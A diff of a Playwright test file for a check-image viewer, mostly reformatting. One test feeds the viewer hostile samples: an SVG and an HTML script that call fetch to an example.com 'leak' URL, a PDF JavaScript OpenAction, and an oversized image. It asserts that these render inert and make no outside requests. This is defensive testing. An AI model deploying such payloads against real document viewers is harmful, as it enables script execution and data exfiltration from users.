@@ -149,9 +149,12 @@ test('a voided check is opened in a frame without network, compared by what is t
   const { page } = desk;
   const begun = Date.now();
   await page.getByRole('button', { name: 'Open the voided check' }).click();
-  const frame = page.frameLocator('iframe[title="Voided check"]');
+  const frame = page.frameLocator('iframe[title="The check as it came"]');
   await expect
-    .poll(() => frame.locator('canvas').evaluate((canvas) => canvas.clientWidth), BACKGROUND_TIMEOUT)
+    .poll(
+      () => frame.locator('canvas').evaluate((canvas) => canvas.clientWidth),
+      BACKGROUND_TIMEOUT,
+    )
     .toBeGreaterThan(200);
   await page.getByLabel('Holder on the check').fill('Ana Ruizdi');
   await page.getByLabel('Routing number, or transit and institution').fill('1');
@@ -199,10 +202,16 @@ test('the viewer shows a picture and nothing else: a script in an SVG and a PDF 
   const svg =
     '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>fetch("https://example.com/leak")</script><image href="https://example.com/leak" width="9" height="9"/></svg>';
   expect(await drawn('image/svg+xml', svg)).toEqual(inert);
-  expect(await drawn('application/pdf', '%PDF-1.7 /OpenAction << /S /JavaScript >>')).toEqual(inert);
-  expect(await drawn('text/html', '<script>fetch("https://example.com/leak")</script>')).toEqual(inert);
+  expect(await drawn('application/pdf', '%PDF-1.7 /OpenAction << /S /JavaScript >>')).toEqual(
+    inert,
+  );
+  expect(await drawn('text/html', '<script>fetch("https://example.com/leak")</script>')).toEqual(
+    inert,
+  );
   expect(await drawn('image/png', 'x'.repeat(50 * 1024 * 1024))).toEqual(inert);
-  expect(asked.filter((url) => !url.endsWith('/viewer') && !url.startsWith(world.deskUrl))).toEqual([]);
+  expect(asked.filter((url) => !url.endsWith('/viewer') && !url.startsWith(world.deskUrl))).toEqual(
+    [],
+  );
   const policy = await page.evaluate(async () =>
     (await fetch('/viewer')).headers.get('content-security-policy'),
   );
